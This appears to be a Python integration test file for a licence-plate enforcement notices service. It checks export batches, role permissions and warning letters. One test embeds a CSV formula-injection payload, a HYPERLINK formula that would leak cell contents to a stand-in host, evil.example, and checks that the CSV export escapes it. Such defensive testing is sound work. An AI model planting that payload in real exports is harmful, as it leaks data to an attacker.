"""Exports and warning letters against the real database: a batch holds exactly the issued candidates."""

import csv
import io
from collections.abc import Callable
from typing import Any

from anpr_contracts import CANDIDATES, RegimeMode
from anpr_notices.entrypoints.api import create_app

from .helpers import REVIEWER, REVIEWER2, SUPERVISOR, a_candidate, api, arrived, notices_settings, publish


async def test_export_contains_exactly_the_issued_ones(
    isolated: Callable[..., Any], run_app: Callable[..., Any]
) -> None:
    settings = notices_settings(isolated, public_url="https://handhaving.example.nl")
    notice = a_candidate(plate="11AAA1")
    warning = a_candidate(plate="22BBB2", mode=RegimeMode.WARN)
    rejected = a_candidate(plate="33CCC3")
    review_only = a_candidate(plate="44DDD4", enforceable=False, fine_eur=None)
    waiting = a_candidate(plate="55EEE5")
    app = create_app(settings)
    async with run_app(app), api(app) as client:
        # Other tests share the database: first sweep up what they issued, then this test's batch is exact.
        assert (await client.post("/v1/exports", headers=SUPERVISOR)).status_code == 201
        await publish(
            settings.kafka_bootstrap, settings.topic(CANDIDATES.name), notice, warning, rejected, review_only, waiting
        )
        ids = {
            c.read.plate: str(await arrived(settings, c.candidate_key))
            for c in (notice, warning, rejected, review_only, waiting)
        }

        async def decide(plate: str, body: dict[str, Any], headers: dict[str, str] = REVIEWER) -> str:
            response = await client.post(f"/v1/candidates/{ids[plate]}/decision", json=body, headers=headers)
            assert response.status_code == 200, response.text
            return str(response.json()["status"])

        assert await decide("11AAA1", {"decision": "accept"}) == "notice_issued"
        assert await decide("22BBB2", {"decision": "accept"}, REVIEWER2) == "warning_issued"
        assert await decide("33CCC3", {"decision": "reject", "reason": "emergency_vehicle"}) == "rejected"
        assert await decide("44DDD4", {"decision": "accept"}) == "accepted_no_notice"

        refused = await client.post("/v1/exports", headers=REVIEWER)
        created = await client.post("/v1/exports", headers=SUPERVISOR)
        batch = created.json()
        as_csv = await client.get(batch["csv"], headers=SUPERVISOR)
        as_json = await client.get(batch["json"], headers=SUPERVISOR)
        empty = (await client.post("/v1/exports", headers=SUPERVISOR)).json()
        statuses = {
            p: (await client.get(f"/v1/candidates/{i}", headers=REVIEWER)).json()["status"] for p, i in ids.items()
        }
        letter = await client.get(f"/v1/letters/{ids['22BBB2']}", headers=SUPERVISOR)
        no_letter = await client.get(f"/v1/letters/{ids['11AAA1']}", headers=SUPERVISOR)
        reviewer_letter = await client.get(f"/v1/letters/{ids['22BBB2']}", headers=REVIEWER)

    assert refused.status_code == 403
    assert created.status_code == 201
    assert (batch["count"], batch["notices"], batch["warnings"], batch["created_by"]) == (2, 1, 1, "supervisor-4")
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert {(r["plate"], r["kind"], r["amount_eur"]) for r in rows} == {
        ("11AAA1", "notice", "120"),
        ("22BBB2", "warning", ""),
    }
    notice_row = next(r for r in rows if r["kind"] == "notice")
    assert notice_row["candidate_id"] == ids["11AAA1"]
    assert notice_row["officer_ids"] == "reviewer-2"
    assert notice_row["evidence"].split(" ") == [
        f"https://handhaving.example.nl/v1/candidates/{ids['11AAA1']}/evidence/{kind}" for kind in ("overview", "plate")
    ]
    items = as_json.json()["items"]
    assert {i["plate"] for i in items} == {"11AAA1", "22BBB2"}
    assert next(i for i in items if i["kind"] == "warning")["officer_ids"] == ["reviewer-3"]
    assert empty["count"] == 0
    assert statuses == {
        "11AAA1": "exported",
        "22BBB2": "exported",
        "33CCC3": "rejected",
        "44DDD4": "accepted_no_notice",
        "55EEE5": "pending",
    }
    assert letter.status_code == 200
    assert letter.headers["content-type"].startswith("text/html")
    assert "Waarschuwing" in letter.text
    assert "22BBB2" in letter.text
    assert no_letter.status_code == 409
    assert reviewer_letter.status_code == 403


async def test_a_formula_in_a_regime_text_reaches_the_csv_as_text_and_the_json_as_it_is(
    isolated: Callable[..., Any], run_app: Callable[..., Any]
) -> None:
    settings = notices_settings(isolated)
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"RVV")'
    hostile = a_candidate(plate="66FFF6", legal_reference=formula, regime_version="+1-1")
    app = create_app(settings)
    async with run_app(app), api(app) as client:
        assert (await client.post("/v1/exports", headers=SUPERVISOR)).status_code == 201  # others' issued ones
        await publish(settings.kafka_bootstrap, settings.topic(CANDIDATES.name), hostile)
        candidate_id = str(await arrived(settings, hostile.candidate_key))
        decided = await client.post(
            f"/v1/candidates/{candidate_id}/decision", json={"decision": "accept"}, headers=REVIEWER
        )
        assert decided.status_code == 200, decided.text
        batch = (await client.post("/v1/exports", headers=SUPERVISOR)).json()
        as_csv = await client.get(batch["csv"], headers=SUPERVISOR)
        as_json = await client.get(batch["json"], headers=SUPERVISOR)

    [row] = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert (row["legal_reference"], row["regime_version"]) == ("'" + formula, "'+1-1")
    assert (row["plate"], row["amount_eur"]) == ("66FFF6", "120")
    [item] = as_json.json()["items"]
    assert (item["legal_reference"], item["regime_version"]) == (formula, "+1-1")
